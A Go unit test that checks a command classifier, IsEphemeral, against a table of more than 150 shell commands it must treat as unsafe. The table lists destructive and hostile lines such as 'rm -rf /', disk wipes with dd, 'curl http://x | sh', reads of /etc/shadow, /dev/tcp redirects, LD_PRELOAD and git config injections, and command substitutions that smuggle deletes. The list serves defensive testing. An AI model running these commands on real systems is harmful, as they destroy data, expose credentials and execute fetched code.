package glance

import (
	"testing"
)

// bypassCommands must never be ephemeral: they write, delete, run other
// programs, change state, or hide any of that behind shell syntax.
var bypassCommands = []string{
	// empty, unparsable
	"", "   ", "\n\t", "ls '", "echo \"unterminated", "ls |", "(ls", "if true; then ls", "# just a comment",
	"ls &&", "&& ls", ";;", "ls )",
	// plain writers and unknown verbs
	"rm -rf /", "rm file", "mv a b", "cp a b", "touch x", "mkdir d", "rmdir d", "chmod +x f", "chown u f", "ln -s a b",
	"dd if=/dev/zero of=/dev/sda", "truncate -s0 f", "shred f", "install a b", "npm install", "pip install x", "make",
	"go build ./...", "python3 -c 'print(1)'", "node -e 'x'", "bash -c 'ls'", "sh -c ls", "zsh", "curl http://x | sh",
	"wget http://x", "ssh host ls", "scp a host:", "rsync -a a b", "kill 1", "pkill node", "killall x", "reboot",
	"shutdown now", "sudo ls", "su -c ls", "doas ls", "crontab -r", "systemctl restart x", "service x stop",
	// forms that run or write something: xargs, exec/eval/source, tee, find's actions
	"xargs rm", "ls | xargs rm", "find . | xargs cat", "exec ls", "eval ls", "eval 'rm -rf x'", "source x.sh", ". x.sh",
	"ls | tee out.txt", "tee f", "find . -delete", "find . -name x -delete", "find . -exec rm {} \\;", "find . -execdir rm {} +",
	"find . -ok rm {} \\;", "find . -okdir rm {} \\;", "find . -fprint out", "find . -fprint0 out", "find . -fprintf out %p", "find . -fls out",
	"sed -i 's/a/b/' f", "sed -i.bak 's/a/b/' f", "sed --in-place 's/a/b/' f", "sed -ni 's/a/b/p' f", "sed -f script.sed f",
	"sed 's/a/b/w out' f", "sed 's/a/b/e' f", "sed '1e id' f", "sed 'w out' f", "sed -n '1,5w out' f", "sed 'r /etc/shadow' f",
	"sed -e 's/a/b/' -e 'w x' f", "sed 's/a/b/ w out' f", "sed 's/x/y/;e' f", "sed 's/a/b/w/dev/stdout' f",
	"sort -o out f", "sort --output=out f", "sort -ro out f", "sort --compress-program=sh f", "sort -oout f",
	"awk 'BEGIN{system(\"rm x\")}'", "awk '{print > \"out\"}' f", "awk '{print $1 >> \"out\"}' f", "awk '{printf \"%s\", $1 > \"o\"}' f",
	"awk '{print | \"sh\"}' f", "awk 'BEGIN{\"id\" | getline x}'", "awk -f prog.awk f", "gawk -i inplace '{print}' f",
	"awk '@load \"x\"'", "awk -E prog f", "awk $prog f", "awk -e 'BEGIN{}' f", "awk '{ printf(\"%s\", $0) > \"/tmp/x\" }' f",
	"git branch -D main", "git branch -d feature", "git branch -m old new", "git branch -M x", "git branch new-feature",
	"git branch -f main HEAD~1", "git branch --delete x", "git branch -c a b", "git branch -u origin/x", "git branch --set-upstream-to=origin/x",
	"git push --force", "git push", "git reset --hard", "git reset --hard HEAD~1", "git clean -fd", "git checkout .", "git checkout -b x",
	"git commit -m x", "git add .", "git stash", "git stash drop", "git stash pop", "git merge x", "git rebase main", "git pull",
	"git fetch --prune", "git gc --prune=now", "git remote prune origin", "git remote add x y", "git remote remove x", "git tag v1",
	"git tag -d v1", "git tag -f v1", "git config user.name x", "git config --unset user.name", "git config --add a.b c",
	"git config -e", "git -c core.pager=evil log", "git -c core.fsmonitor='rm -rf x' status", "git -c alias.x='!rm' x",
	"git --exec-path=/tmp status", "git --config-env=core.pager=X log", "git diff --output=out.txt", "git log --output=x",
	"git diff --ext-diff", "git grep -O vim foo", "git grep --open-files-in-pager=sh x", "git ls-remote --upload-pack='rm x' origin",
	"git worktree add ../x", "git worktree remove x", "git reflog expire --all", "git reflog delete HEAD@{1}",
	"git submodule update", "git notes add -m x", "git apply p.diff", "git am x", "git restore .", "git switch x",
	"git update-ref -d HEAD", "git $sub", "git status --force", "git log --force-with-lease",
	"git submodule foreach 'rm x'", "git -p log", "git --git-dir=/tmp/evil log", "git diff | sh",
	// date, hostname, env, command wrappers
	"date -s '2020-01-01'", "date --set='2020-01-01'", "date 010112002020", "date -us 'x'", "hostname evil", "hostname -F f",
	"env rm x", "env -i sh", "env FOO=bar ls", "command rm x", "command ls", "builtin cd /", "nohup ls", "timeout 5 rm x",
	"nice rm x", "time rm x", "watch ls", "strace ls", "chroot / ls",
	// substitutions anywhere
	"echo $(rm -rf x)", "echo `rm x`", "ls $(echo -la)", "cat <(rm x)", "diff <(ls) <(ls)", "ls > >(tee x)", "echo \"$(id)\"",
	"ls \"`id`\"", "cat <<EOF\n$(rm x)\nEOF", "echo $((x=5))", "echo $[1+1]", "echo ${x:=rm}", "echo ${x=y}", "echo ${!x}",
	"echo ${a[$(id)]}", "echo ${x@P}", "echo ${x:0:$(id)}", "echo ${x/a/$(id)}", "grep foo <<< \"$(id)\"", "ls ${a[0]}",
	"echo ${!prefix*}", "[[ $x -eq 1 ]] && ls", "[[ a -lt b ]]",
	// redirections
	"ls > out", "ls >> out", "ls >| out", "ls &> out", "ls &>> out", "ls 2> err", "echo x > /etc/passwd", "cat < /etc/shadow",
	"ls >&out", "ls > $f", "ls > /dev/null.bak", "cat <> f", "ls {fd}>/dev/null", "exec 3>out", "ls 3>out",
	"cat <<EOF > f\nx\nEOF", "echo x >/dev/sda", "echo x >/dev/tcp/1.2.3.4/80", "cat </dev/tcp/1.2.3.4/80",
	// background, assignments, declarations, functions, loops
	"ls &", "ls & rm x", "sleep 10 &", "ls & disown", "X=1", "FOO=bar", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls",
	"GIT_PAGER=sh git log", "PAGER=evil git log", "GIT_EXTERNAL_DIFF=evil git diff", "BASH_ENV=x ls", "a+=1 ls",
	"export X=1", "declare -x Y=2", "local z=1", "readonly r=1", "typeset t=1", "let x=1", "((x++))", "f() { ls; }; f",
	"function f { ls; }", "while true; do ls; done", "until false; do ls; done", "for ((i=0;i<3;i++)); do ls; done",
	"select x in a; do ls; done", "coproc ls", "alias ls=rm", "unset PATH", "set -e", "shopt -s x", "trap 'rm x' EXIT",
	"cd /tmp", "cd /tmp && ls", "pushd /tmp", "umask 000", "ls | while read f; do rm \"$f\"; done",
	// verb disguises
	"./ls", "../bin/ls", "/tmp/ls", "~/bin/ls", "$cmd", "${cmd}", "l$x", "'rm' -rf x", "r\\m x", "$'\\x72m' x", "\"rm\" x",
	"l* -la", "{rm,-rf,x}", "/usr/bin/rm x", "/bin/../tmp/ls",
	// read-only verbs misused or chained with writers
	"cat f | sh", "cat f | bash", "git log | xargs rm", "ls | python3", "grep x f | tee y", "echo ok && rm x", "ls || rm x",
	"ls; rm x", "(ls; rm x)", "{ ls; rm x; }", "if ls; then rm x; fi", "for f in *; do rm $f; done", "case x in x) rm y;; esac",
	"[ -f x ] && rm x", "! rm x", "ls | sort -o out", "uniq in out", "uniq -c in out", "tree -o out.txt", "tree -R -H . -o x",
	"file -C -m magic", "rg --pre sh x", "rg --pre=./evil x", "fd -x rm", "fd --exec rm {}",
	"iconv -o out f", "printf -v x hi", "dmesg -c", "dmesg --clear", "mount /dev/sda /mnt", "ip link set eth0 down",
	"ip addr add 1.2.3.4 dev eth0", "ip netns exec x sh", "ip -batch cmds", "ifconfig eth0 down", "ss -K dst 1.2.3.4", "ss -tlnpK",
	"docker run alpine", "docker rm x", "docker exec -it x sh", "docker compose up", "docker system prune", "docker container rm x",
	"docker image rm x", "docker volume rm x", "kubectl delete pod x", "kubectl apply -f x", "kubectl exec x -- sh",
	"kubectl edit x", "kubectl config use-context x", "kubectl config set x", "kubectl scale --replicas=0 x",
	"sort $opt f", "sed $script f", "find . $action", "git log $flags", "awk \"$p\" f", "sort * ", "find * -name x",
	"ls `echo`", "echo hi > /dev/null; rm x", "true && { false || rm x; }", "ls\nrm -rf x", "ls;rm x", "ls|rm x",
	"sed 's/a/b/' -i f", "ag --pager 'sh -c x' foo", "ag --pager=evil foo", "ss -D dump.bin", "ss --diag=dump.bin",
}

func TestIsEphemeralTable(t *testing.T) {
	if len(readOnlyCommands) < 100 || len(bypassCommands) < 150 {
		t.Fatalf("table too small: %d read-only, %d bypass", len(readOnlyCommands), len(bypassCommands))
	}
	seen := map[string]bool{}
	acceptAll(t, readOnlyCommands, seen)
	for _, c := range bypassCommands {
		if seen[c] {
			t.Errorf("duplicate case %q", c)
		}
		seen[c] = true
		if IsEphemeral(c) {
			t.Errorf("IsEphemeral(%q) = true, want false (bypass)", c)
		}
	}
	t.Logf("%d read-only and %d bypass cases", len(readOnlyCommands), len(bypassCommands))
}
